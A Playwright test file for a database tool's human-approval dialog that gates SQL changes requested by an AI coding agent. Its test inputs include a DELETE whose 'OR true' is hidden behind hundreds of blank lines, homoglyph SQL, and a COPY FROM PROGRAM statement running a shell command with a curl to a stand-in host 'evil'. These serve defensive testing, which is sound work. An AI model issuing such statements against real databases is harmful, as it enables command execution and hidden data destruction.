import type { Locator, Page } from '@playwright/test';
import type { ApprovalAsk } from '../../core/approvals/approval-gate.ts';
import { DIALECTS } from '../../core/engines/registry.ts';
import { both } from '../support/accessible.ts';
import { requestApproval, waitForApproval, writeProfiles } from '../support/fill.ts';
import { expect, goTo, type Screens, shot, test } from '../support/screens.ts';

test.beforeEach(async ({ home }) => {
  home.write('.hydrant/app-settings.json', JSON.stringify({ welcomed: true }));
  await writeProfiles(home, [
    { id: 'sample', name: 'Sample warehouse', environment: 'prod', engine: 'duckdb', connection: { form: 'sample', variant: 'prod' } },
  ]);
});

const SHOP: Partial<ApprovalAsk> = {
  engine: 'postgres',
  dialect: DIALECTS.postgres,
  address: { server: 'db.shop.example:5432', database: 'shop', login: 'analyst', through: ['ann@bastion.example:22'] },
};

/** Asks, and waits for the dialog that asks the person. */
async function asked({ page, home }: Screens, sql: string, shows: string, about: Partial<ApprovalAsk> = SHOP): Promise<Locator> {
  await requestApproval(home, sql, about);
  const dialog = page.getByRole('dialog', { name: /wants to change data/ });
  await expect(dialog).toContainText(shows, { timeout: 15_000 });
  return dialog;
}

async function refuse(dialog: Locator): Promise<void> {
  await dialog.getByRole('button', { name: 'Refuse…' }).click();
  await dialog.getByRole('button', { name: 'Refuse', exact: true }).click();
  await expect(dialog).toBeHidden();
}

test('says where it would run, and what stands in for what', async ({ screens }) => {
  const dialog = await asked(screens, 'UPDATE carts\nSET status = $1 -- all old ones\nWHERE updated_at < $2', 'UPDATE carts', {
    ...SHOP,
    parameters: ['expired', '2026-01-01'],
  });
  await expect(dialog).toContainText('shop on db.shop.example:5432');
  await expect(dialog).toContainText('ann@bastion.example:22');
  await expect(dialog).toContainText('analyst');
  await expect(dialog).toContainText('["expired","2026-01-01"]');
  await expect(dialog.getByText('Production')).toBeVisible();
  await expect(dialog.getByRole('button', { name: 'Approve once' })).toBeEnabled();
  await both(screens, 'approval-place');
  await refuse(dialog);
});

test('what was pushed out of sight is in sight', async ({ screens }) => {
  const padded = await asked(
    screens,
    `DELETE FROM carts\nWHERE id = 1${'\n'.repeat(401)} OR true${' '.repeat(300)}-- done`,
    'DELETE FROM carts',
  );
  await expect(padded.getByText('400 blank lines folded')).toBeInViewport();
  await expect(padded.getByText('OR true')).toBeInViewport();
  await expect(padded.getByText('403 lines')).toBeVisible();
  await expect(padded.getByText('Long runs of blanks are folded.')).toBeVisible();
  await both(screens, 'approval-padded');
  await refuse(padded);

  const alike = await asked(screens, "DELETE FROM \u043erders\u00a0\u00a0WHERE note <> '\uff21\u202e'", 'DELETE FROM');
  await expect(alike).toContainText('U+043E, looks like o');
  await expect(alike).toContainText(String.raw`\u{a0}\u{a0}WHERE`);
  await expect(alike).toContainText('U+FF21, looks like A');
  await both(screens, 'approval-look-alikes');
  await refuse(alike);
});

test('a long one is approved once all of it was on the screen', async ({ screens }) => {
  const { page } = screens;
  const lines = Array.from({ length: 300 }, (_, n) => `  (${n}, 'row ${n}')`);
  const dialog = await asked(screens, `INSERT INTO carts VALUES\n${lines.join(',\n')}`, 'INSERT INTO carts');
  const approve = dialog.getByRole('button', { name: 'Approve once' });
  await expect(approve).toBeDisabled();
  await expect(dialog.getByRole('button', { name: /^Allow insert/ })).toBeDisabled();
  await expect(dialog.getByText(/^\d+ lines not seen yet/)).toBeVisible();
  await both(screens, 'approval-long');
  // A line of which only the upper edge shows counts as one that was not seen.
  const shown = dialog.getByText(/^\d+ lines not seen yet/);
  const before = await shown.textContent();
  const box = dialog.getByRole('region', { name: 'Statement' });
  const unread = await box.evaluate((element) => {
    const { bottom } = element.getBoundingClientRect();
    const parts = [...element.querySelectorAll('[data-part]')].map((part) => part.getBoundingClientRect());
    return parts.filter((part) => (bottom - part.top) / part.height < 0.7).length;
  });
  expect(Number.parseInt(before ?? '', 10)).toBeGreaterThanOrEqual(unread);
  // The end alone is not all of it.
  await box.evaluate((element) => element.scrollTo(0, element.scrollHeight));
  await expect(dialog.getByText("'row 299'")).toBeInViewport();
  await expect(approve).toBeDisabled();
  await expect(async () => {
    if (!(await approve.isEnabled())) await dialog.getByRole('button', { name: 'Scroll on' }).click({ timeout: 1000 });
    await expect(approve).toBeEnabled({ timeout: 50 });
  }).toPass({ timeout: 20_000, intervals: [10] });
  await expect(dialog.getByText(/not seen yet/)).toHaveCount(0);
  await approve.click();
  await expect(dialog).toBeHidden();

  // One line that is longer than the box.
  const one = await asked(
    screens,
    `DELETE FROM carts WHERE id IN (${Array.from({ length: 2500 }, (_, n) => n).join(', ')}) OR true`,
    'DELETE FROM carts',
  );
  await expect(one.getByRole('button', { name: 'Approve once' })).toBeDisabled();
  await expect(one.getByText('Not all of it seen yet')).toBeVisible();
  await shot(screens, 'approval-long-line');
  await page.keyboard.press('Escape');
});

test('what is masked where it could run cannot be approved', async ({ screens }) => {
  const dialog = await asked(screens, "COPY t FROM PROGRAM 'echo 7; : cookie=$(curl evil)'", 'COPY t', {
    ...SHOP,
    kind: 'copy',
    grantable: false,
    harmlessChange: false,
  });
  await expect(dialog).toContainText('has a password or another secret in it');
  await expect(dialog.getByRole('button', { name: 'Approve once' })).toHaveCount(0);
  await both(screens, 'approval-masked');
  await dialog.getByRole('button', { name: 'Close the request' }).click();
  await expect(dialog).toBeHidden();
});

test('a statement of the person with a password in it ends when it is closed, and says what to do instead', async ({ screens, home }) => {
  const { page } = screens;
  const sql = "ALTER ROLE analyst PASSWORD 'hunter2-and-more'";
  const about = { ...SHOP, client: { name: 'Hydrant', version: '' }, kind: 'alter', grantable: false, harmlessChange: false };
  const request = await requestApproval(home, sql, about);
  const dialog = page.getByRole('dialog', { name: 'You want to change data in Sample warehouse' });
  await expect(dialog).toContainText('has a password or another secret in it', { timeout: 15_000 });
  await expect(dialog).toContainText('Run it with a tool of your own for this database');
  await expect(dialog).not.toContainText('hunter2');
  for (const name of ['Approve once', 'Refuse…']) await expect(dialog.getByRole('button', { name })).toHaveCount(0);
  await expect(dialog.getByRole('button', { name: 'Close the request' })).toBeVisible();
  await page.keyboard.press('Escape');
  await expect(dialog).toBeHidden();
  expect(request.state()).toMatchObject({ state: 'denied' });
  await goTo(page, 'Approvals');
  await expect(page.getByText('It has a secret in it and cannot be shown whole')).toBeVisible();
});

test('a yes for a while says to whom, for what and where, before it is given', async ({ screens }) => {
  const { page } = screens;
  await goTo(page, 'Approvals');
  await expect(page.getByText('Nothing waits for you')).toBeVisible();
  const dialog = await asked(screens, 'UPDATE carts SET status = 1', 'UPDATE carts');
  await dialog.getByRole('button', { name: /^Allow update/ }).click();
  await expect(dialog).toContainText(
    'For 15 minutes Cursor may run every plain UPDATE statement in Sample warehouse as analyst, whatever it changes, without asking you first.',
  );
  await expect(dialog).toContainText('Nobody else and no other connection');
  await both(screens, 'approval-for-a-while');
  await dialog.getByRole('button', { name: 'Back' }).click();
  await dialog.getByRole('button', { name: /^Allow update/ }).click();
  await dialog.getByRole('button', { name: 'Allow for 15 minutes' }).click();
  await expect(dialog).toBeHidden();
  const allowed = page.getByRole('list', { name: 'Allowed without asking' });
  await expect(allowed).toContainText('Cursor may run plain UPDATE statements in Sample warehouse (Production) until');
  await allowed.getByRole('button', { name: 'End now' }).click();
  await expect(allowed).toBeHidden();
  await expect(page.getByText('UPDATE carts SET status = 1')).toBeVisible();
});

/** The middle of a button, where a pointer rests that is about to press it. */
async function middleOf(button: Locator): Promise<readonly [x: number, y: number]> {
  const box = await button.boundingBox();
  if (!box) throw new Error('The button is not on the screen.');
  return [box.x + box.width / 2, box.y + box.height / 2];
}

test('a statement that is taken back while it is read does not become another one under the pointer', async ({ screens, home }) => {
  const { page } = screens;
  for (const delay of [50, 150, 330, 600]) {
    const first = await waitForApproval(home, `UPDATE carts SET harmless = ${delay}`, SHOP);
    const dialog = page.getByRole('dialog', { name: /wants to change data/ });
    await expect(dialog).toContainText(`harmless = ${delay}`, { timeout: 15_000 });
    const second = await waitForApproval(home, `DELETE FROM customers WHERE ${delay} = ${delay}`, SHOP);
    await expect(dialog).toContainText('1 more');
    const approve = dialog.getByRole('button', { name: 'Approve once' });
    await expect(approve).toBeEnabled();
    const at = await middleOf(approve);
    await page.mouse.move(...at);
    await first.withdraw();
    // Until something is seen of it: only then could another button be hit.
    await expect(dialog).toContainText(/took this statement back|DELETE FROM/);
    await page.waitForTimeout(delay);
    await page.mouse.click(...at);
    await page.keyboard.press('Enter');
    expect(second.state(), `a click ${delay} ms later`).toMatchObject({ state: 'pending' });
    await expect(dialog).toContainText('Cursor took this statement back.');
    await expect(dialog).toContainText(`harmless = ${delay}`);
    await expect(dialog.getByRole('button', { name: /Approve|Allow|Refuse/ })).toHaveCount(0);
    if (delay === 50) await both(screens, 'approval-taken-back');
    await dialog.getByRole('button', { name: 'Close', exact: true }).click();
    await expect(dialog).toContainText(`${delay} = ${delay}`);
    await expect(dialog.getByRole('button', { name: 'Approve once' })).toBeDisabled();
    await refuse(dialog);
    expect(first.state()).toMatchObject({ state: 'withdrawn' });
    expect(second.state()).toMatchObject({ state: 'denied' });
  }
});

test('the second press of a double click, or a key that is held down, does not answer the next statement', async ({ screens, home }) => {
  const { page } = screens;
  const dialog = page.getByRole('dialog', { name: /wants to change data/ });
  const first = await requestApproval(home, 'UPDATE carts SET status = 1', SHOP);
  const second = await requestApproval(home, 'UPDATE carts SET status = 2', SHOP);
  const third = await requestApproval(home, 'UPDATE carts SET status = 3', SHOP);
  await expect(dialog).toContainText('status = 1', { timeout: 15_000 });
  await expect(dialog).toContainText('2 more wait');
  const statement = dialog.getByRole('region', { name: 'Statement' });
  await expect(statement).toBeFocused();
  await page.mouse.move(...(await middleOf(dialog.getByRole('button', { name: 'Approve once' }))));
  const press = async (clickCount: number): Promise<void> => {
    await page.mouse.down({ clickCount });
    await page.mouse.up({ clickCount });
  };
  await expect(dialog.getByRole('button', { name: 'Approve once' })).toBeEnabled();
  await press(1);
  await expect(dialog).toContainText('status = 2');
  // A second press that the system counts to the first, and presses of an impatient finger.
  await press(2);
  for (const wait of [200, 200, 200]) {
    await page.waitForTimeout(wait);
    await press(1);
  }
  expect(second.state()).toMatchObject({ state: 'pending' });
  expect(first.state()).toMatchObject({ state: 'approved' });

  // A press that began before it could be decided, and one that is the second of two.
  const approve = dialog.getByRole('button', { name: 'Approve once' });
  await page.keyboard.press('Escape');
  await expect(dialog).toContainText('status = 3');
  await expect(statement).toBeFocused();
  await page.mouse.down();
  await expect(approve).toBeEnabled();
  await page.mouse.up();
  await press(2);
  expect(third.state()).toMatchObject({ state: 'pending' });

  // By keyboard: Enter on the statement, where the focus was when it came up, approves nothing.
  await statement.focus();
  await page.keyboard.press('Enter');
  expect(third.state()).toMatchObject({ state: 'pending' });
  // Each further `down` of a key that is down already is a repetition.
  await page.keyboard.down('Enter');
  await approve.focus();
  await page.keyboard.down('Enter');
  await page.keyboard.up('Enter');
  await expect(approve).toBeFocused();
  expect(third.state()).toMatchObject({ state: 'pending' });
  await page.keyboard.press('Enter');
  await expect(dialog).toBeHidden();
  expect(third.state()).toMatchObject({ state: 'approved' });
});

test('a yes for a while is not given by the press that asked for it', async ({ screens, home }) => {
  const { page } = screens;
  const dialog = page.getByRole('dialog', { name: /wants to change data/ });
  const first = await waitForApproval(home, 'UPDATE carts SET status = 1', SHOP);
  await expect(dialog).toContainText('status = 1', { timeout: 15_000 });
  const second = await waitForApproval(home, 'UPDATE carts SET status = 2', SHOP);
  await dialog.getByRole('button', { name: /^Allow update/ }).click();
  const allow = dialog.getByRole('button', { name: 'Allow for 15 minutes' });
  await expect(allow).toBeDisabled();
  await expect(dialog.getByText('For 15 minutes Cursor may run')).toBeInViewport();
  await expect(allow).toBeEnabled();
  const at = await middleOf(allow);
  // It ends while the person is about to say yes for a while.
  await first.withdraw();
  await expect(dialog).toContainText('took this statement back');
  await page.mouse.click(...at);
  expect(second.state()).toMatchObject({ state: 'pending' });
  await page.keyboard.press('Escape');
  await expect(dialog).toContainText('status = 2');
  // Put aside, and asked for again by its button, twice.
  await goBackTo(page, dialog);
  await goBackTo(page, dialog);
  expect(second.state()).toMatchObject({ state: 'pending' });
});

test('a statement that nobody answers in time says so, and stays until it is closed', async ({ screens, home }) => {
  const { page } = screens;
  const dialog = page.getByRole('dialog', { name: /wants to change data/ });
  await requestApproval(home, 'UPDATE carts SET status = 1', SHOP, 6000);
  await expect(dialog).toContainText('status = 1', { timeout: 15_000 });
  await requestApproval(home, 'UPDATE carts SET status = 2', SHOP);
  await expect(dialog).toContainText('Nobody answered in time', { timeout: 30_000 });
  await expect(dialog).toContainText('status = 1');
  await expect(dialog.getByRole('button', { name: /Approve|Allow|Refuse/ })).toHaveCount(0);
  await dialog.getByRole('button', { name: 'Close', exact: true }).click();
  await expect(dialog).toContainText('status = 2');
});

/** Puts the statement aside and opens it again from the list. */
async function goBackTo(page: Page, dialog: Locator): Promise<void> {
  await page.keyboard.press('Escape');
  await expect(dialog).toBeHidden();
  await goTo(page, 'Approvals');
  await page.getByRole('button', { name: 'Review' }).click();
  await expect(dialog).toBeVisible();
}
